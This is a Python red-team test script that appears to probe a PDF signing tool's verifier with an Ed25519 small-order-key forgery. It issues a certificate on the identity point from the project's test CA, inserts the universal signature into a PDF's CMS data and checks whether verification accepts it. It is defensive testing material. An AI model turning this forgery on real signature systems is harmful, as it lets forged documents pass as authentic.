# Red-team probe (2026-12-07, round 3): an Ed25519 signer certificate whose public key is a
# small-order point (the identity, 01 00..00), issued by the test Ed25519 CA (a CA that checks
# CSR possession with cofactorless verification accepts such a key: R = identity, S = 0
# verifies any message under it). The PDF's signature is that universal one: (identity, 0).
# A strict verifier (ed25519-dalek verify_strict, countersign's rustcrypto provider) refuses it;
# AWS-LC's ED25519_verify does not check the key's order.
# Usage: python3 redteam_ed25519_small_order.py COUNTERSIGN REPO OUTDIR
import datetime, hashlib, json, subprocess, sys
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from redteam_cms_resign import resign, signed_content, set_attr
from asn1crypto import cms, x509 as ax509, tsp
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from cryptography.x509.oid import NameOID

exe, repo, out = sys.argv[1:4]
pki = f"{repo}/testdata/pki"
subprocess.run([exe, "sign", f"{repo}/testdata/pdf/classic.pdf", "-o", f"{out}/ed.pdf",
                "--cert", f"{pki}/demo-ed25519.chain.pem", "--key", f"{pki}/demo-ed25519.key.pem"],
               check=True, capture_output=True)
pdf = open(f"{out}/ed.pdf", "rb").read()
ca_cert = x509.load_pem_x509_certificate(open(f"{pki}/ed25519-ca.cert.pem", "rb").read())
ca_key = serialization.load_pem_private_key(open(f"{pki}/ed25519-ca.key.pem", "rb").read(), None)
identity = b"\x01" + b"\x00" * 31
weak = Ed25519PublicKey.from_public_bytes(identity)
now = datetime.datetime.now(datetime.timezone.utc)
cert = (x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Small Order Seal")]))
        .issuer_name(ca_cert.subject).public_key(weak).serial_number(0x5150)
        .not_valid_before(now - datetime.timedelta(days=1)).not_valid_after(now + datetime.timedelta(days=30))
        .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False, False), critical=True)
        .sign(ca_key, None))
der = cert.public_bytes(serialization.Encoding.DER)
acert = ax509.Certificate.load(der)


def mutate(sd, si):
    certs = list(sd["certificates"])
    sd["certificates"] = cms.CertificateSet([cms.CertificateChoices("certificate", acert)] + certs[1:])
    si["sid"] = cms.SignerIdentifier("issuer_and_serial_number", cms.IssuerAndSerialNumber(
        {"issuer": acert.issuer, "serial_number": acert.serial_number}))
    attrs = []
    for attr in si["signed_attrs"]:
        if attr["type"].native == "signing_certificate_v2":
            continue  # optional; dropped rather than rebuilt
        attrs.append(attr)
    si["signed_attrs"] = cms.CMSAttributes(attrs)
    si["signature"] = identity + b"\x00" * 32


open(f"{out}/small-order.pdf", "wb").write(resign(pdf, mutate))
for extra in [[], ["--integrity-only"]]:
    r = subprocess.run([exe, "verify", f"{out}/small-order.pdf", "--trust", f"{pki}/root-ca.cert.pem"] + extra,
                       capture_output=True, text=True)
    print(" ".join(extra) or "(trusted)", "exit", r.returncode, r.stdout.strip().splitlines()[:1],
          [l for l in r.stdout.splitlines() if "problem" in l or "intact" in l])
